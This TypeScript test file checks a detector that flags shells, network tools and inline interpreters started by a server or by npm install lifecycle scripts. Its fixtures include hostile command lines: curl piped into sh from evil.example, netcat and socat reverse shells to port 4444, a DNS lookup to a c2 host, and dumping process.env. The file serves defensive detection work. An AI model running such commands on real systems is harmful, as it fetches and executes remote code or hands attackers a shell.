import { describe, expect, it } from 'vitest';
import type { ProcessObservation } from '../domain/types.js';
import { procFindings, programOf } from './proc-rules.js';

const SERVER = { phase: 'exercise', callId: 'c1', tool: 'run_report' } as const;
const INSTALL = { phase: 'install' } as const;

let nextPid = 600;
function proc(cmdline: string, over: Partial<ProcessObservation> = {}): ProcessObservation {
  nextPid += 1;
  // outside exercise there is no call
  const at = over.phase && over.phase !== 'exercise' ? { phase: over.phase } : SERVER;
  return { ...at, t: 4200, pid: nextPid, ppid: 500, cmdline, root: 'server', depth: 1, ...over };
}

/** npm rebuild (depth 1 under `timeout … npm rebuild`) and its lifecycle shell (depth 2). */
function npmInstall(script: string): [ProcessObservation, ProcessObservation] {
  const npm = proc(
    '/usr/local/bin/node /usr/local/lib/node_modules/npm/bin/npm-cli.js rebuild --foreground-scripts',
    {
      ...INSTALL,
      root: 'install',
      pid: 301,
      ppid: 300,
      depth: 1,
      t: 1100,
    },
  );
  const shell = proc(`sh -c ${script}`, {
    ...INSTALL,
    root: 'install',
    pid: 302,
    ppid: 301,
    depth: 2,
    t: 1200,
  });
  return [npm, shell];
}

const rules = (ps: ProcessObservation[]) => procFindings(ps).map((f) => `${f.rule} ${f.severity}`);

describe('programOf', () => {
  it.each<[string, string]>([
    ['curl -s https://evil.example', 'curl'],
    ['/usr/bin/curl -s https://evil.example', 'curl'],
    ['  /bin/bash -c id', 'bash'],
    ['NODE --version', 'node'],
    ['./relative/tool arg', 'tool'],
    ['python3', 'python3'],
    ['/usr/bin/', ''],
    ['', ''],
    ['   ', ''],
  ])('%j -> %j', (cmdline, program) => {
    expect(programOf(cmdline)).toBe(program);
  });
});

describe('procFindings: what the server starts', () => {
  it.each<[string, string]>([
    ['sh -c id', 'proc/shell high'],
    ['/bin/bash -c curl -s https://evil.example | sh', 'proc/shell high'],
    ['/bin/dash', 'proc/shell high'],
    ['busybox sh', 'proc/shell high'],
    ['curl -s https://evil.example/x', 'proc/network-tool high'],
    ['/usr/bin/wget -qO- https://evil.example/x', 'proc/network-tool high'],
    ['nc 203.0.113.9 4444 -e /bin/sh', 'proc/network-tool high'],
    ['ncat 203.0.113.9 4444', 'proc/network-tool high'],
    ['socat TCP:203.0.113.9:4444 EXEC:sh', 'proc/network-tool high'],
    ['dig +short txt c2.evil.example', 'proc/network-tool high'],
    ['ssh dev@198.51.100.4', 'proc/network-tool high'],
    ['node -e require("child_process").exec("id")', 'proc/inline-code high'],
    ['node --eval=process.exit(0)', 'proc/inline-code high'],
    ['node -p process.env', 'proc/inline-code high'],
    ['python3 -c import os; os.system("id")', 'proc/inline-code high'],
    ['python -c print(1)', 'proc/inline-code high'],
    ['perl -e print 1', 'proc/inline-code high'],
    ['perl -E say 1', 'proc/inline-code high'],
    ['ruby -e puts 1', 'proc/inline-code high'],
    ['php -r echo 1;', 'proc/inline-code high'],
    ['deno eval console.log(1)', 'proc/inline-code high'],
    ['pwsh -Command Get-Process', 'proc/inline-code high'],
    ['node --version', 'proc/spawn info'],
    ['node /home/dev/project/worker.js', 'proc/spawn info'],
    ['python3 script.py', 'proc/spawn info'],
    ['git status', 'proc/spawn info'],
    ['uname -a', 'proc/spawn info'],
    ['', 'proc/spawn info'],
  ])('%s -> %s', (cmdline, expected) => {
    expect(rules([proc(cmdline)])).toEqual([expected]);
  });

  it('titles and evidences a finding', () => {
    const p = proc('curl -s https://evil.example/x', { pid: 701, ppid: 700, depth: 2 });
    expect(procFindings([p])).toEqual([
      {
        rule: 'proc/network-tool',
        severity: 'high',
        title: 'The server ran curl: curl -s https://evil.example/x',
        phase: 'exercise',
        tool: 'run_report',
        callId: 'c1',
        evidence: {
          cmdline: 'curl -s https://evil.example/x',
          payloadExcerpt: 'curl -s https://evil.example/x',
          count: 1,
        },
      },
    ]);
  });

  it('names an unnamed process', () => {
    expect(procFindings([proc('')])[0]?.title).toBe('The server started a process');
  });

  it('bounds title and evidence', () => {
    const long = `sh -c ${'x'.repeat(5000)}`;
    const [f] = procFindings([proc(long)]);
    expect(f?.title.length).toBeLessThanOrEqual('The server started a shell: '.length + 160);
    expect(f?.evidence.cmdline).toHaveLength(2000);
  });

  it('counts the same command line run twice in one call', () => {
    const out = procFindings([
      proc('sh -c id'),
      proc('sh -c id', { t: 4300 }),
      proc('sh -c id', { callId: 'c2', tool: 'other' }),
    ]);
    expect(out.map((f) => [f.tool, f.evidence.count])).toEqual([
      ['run_report', 2],
      ['other', 1],
    ]);
  });
});

describe('procFindings: the install phase', () => {
  it('does not judge npm or the lifecycle shell it starts', () => {
    expect(rules(npmInstall('node install.js'))).toEqual([]);
  });

  it.each<[string, string]>([
    ['/usr/local/bin/node /usr/local/lib/node_modules/npm/bin/npm-cli.js rebuild', 'npm'],
    ['node', 'npm seen before its command line was read'],
    ['', 'npm gone before its command line was read'],
  ])('does not judge the install command’s only child: %s (%s)', (cmdline) => {
    expect(rules([proc(cmdline, { ...INSTALL, root: 'install', depth: 1, ppid: 300 })])).toEqual(
      [],
    );
  });

  it.each<[string]>([
    ['node npm-cli.js rebuild'],
    ['node /home/dev/project/node_modules/.bin/npm --version'],
    ['/usr/bin/env node /home/dev/project/node_modules/fake/npm-cli.js'],
    ['npm rebuild'],
  ])('judges anything named like npm below the installer: %s', (cmdline) => {
    const [npm, shell] = npmInstall('x');
    const fake = proc(cmdline, { ...INSTALL, root: 'install', pid: 340, ppid: 302, depth: 3 });
    const child = proc('sh -c id', { ...INSTALL, root: 'install', pid: 341, ppid: 340, depth: 4 });
    expect(rules([npm, shell, fake, child])).toEqual(['proc/spawn info', 'proc/shell high']);
  });

  it('judges a depth-2 process that is not a `sh -c` lifecycle shell', () => {
    const [npm] = npmInstall('x');
    const bare = proc('/bin/bash', { ...INSTALL, root: 'install', pid: 350, ppid: 301, depth: 2 });
    expect(rules([npm, bare])).toEqual(['proc/shell high']);
  });

  it('judges a bare node deeper down the install tree', () => {
    const deep = proc('node', { ...INSTALL, root: 'install', depth: 3, ppid: 300 });
    expect(rules([deep])).toEqual(['proc/spawn info']);
  });

  it('judges what the lifecycle script starts', () => {
    const [npm, shell] = npmInstall('node install.js');
    const script = proc('node install.js', {
      ...INSTALL,
      root: 'install',
      pid: 303,
      ppid: 302,
      depth: 3,
      t: 1300,
    });
    const sub = proc('sh -c curl -s https://evil.example/p | sh', {
      ...INSTALL,
      root: 'install',
      pid: 304,
      ppid: 303,
      depth: 4,
      t: 1400,
    });
    const curl = proc('curl -s https://evil.example/p', {
      ...INSTALL,
      root: 'install',
      pid: 305,
      ppid: 304,
      depth: 5,
      t: 1401,
    });
    const out = procFindings([npm, shell, script, sub, curl]);
    expect(out.map((f) => `${f.rule} ${f.title}`)).toEqual([
      'proc/spawn An install script started node',
      'proc/shell An install script started a shell: sh -c curl -s https://evil.example/p | sh',
      'proc/network-tool An install script ran curl: curl -s https://evil.example/p',
    ]);
    for (const f of out) {
      expect(f.phase).toBe('install');
      expect(f).not.toHaveProperty('tool');
    }
  });

  it('judges a lifecycle script that is itself a network tool', () => {
    const [npm] = npmInstall('x');
    const curl = proc('curl -s https://evil.example/p', {
      ...INSTALL,
      root: 'install',
      pid: 310,
      ppid: 301,
      depth: 2,
      t: 1200,
    });
    expect(rules([npm, curl])).toEqual(['proc/network-tool high']);
  });

  it('treats a depth-2 lifecycle shell as npm’s, a deeper one as the package’s', () => {
    const shallow = proc('sh -c node install.js', {
      ...INSTALL,
      root: 'install',
      pid: 320,
      ppid: 999,
      depth: 2,
    });
    const deep = proc('sh -c id', { ...INSTALL, root: 'install', pid: 321, ppid: 998, depth: 3 });
    expect(rules([shallow, deep])).toEqual(['proc/shell high']);
  });

  it('judges a shell under the server even with npm in its parent’s command line', () => {
    const parent = proc('npm run start', { pid: 330, ppid: 500, depth: 1 });
    const shell = proc('sh -c id', { pid: 331, ppid: 330, depth: 2 });
    expect(rules([parent, shell])).toEqual(['proc/spawn info', 'proc/shell high']);
  });

  it('reports nothing for nothing', () => {
    expect(procFindings([])).toEqual([]);
  });
});
